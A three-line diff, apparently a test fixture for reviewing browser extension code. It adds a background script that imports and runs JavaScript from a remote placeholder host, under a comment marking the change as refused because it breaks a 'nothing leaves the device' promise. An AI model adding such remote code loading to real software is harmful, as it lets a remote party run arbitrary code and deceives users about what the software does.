@@ -1,0 +1,3 @@
+// as: background/example.js
+// refused: Nothing leaves the device
+import("https://example.org/x.js");
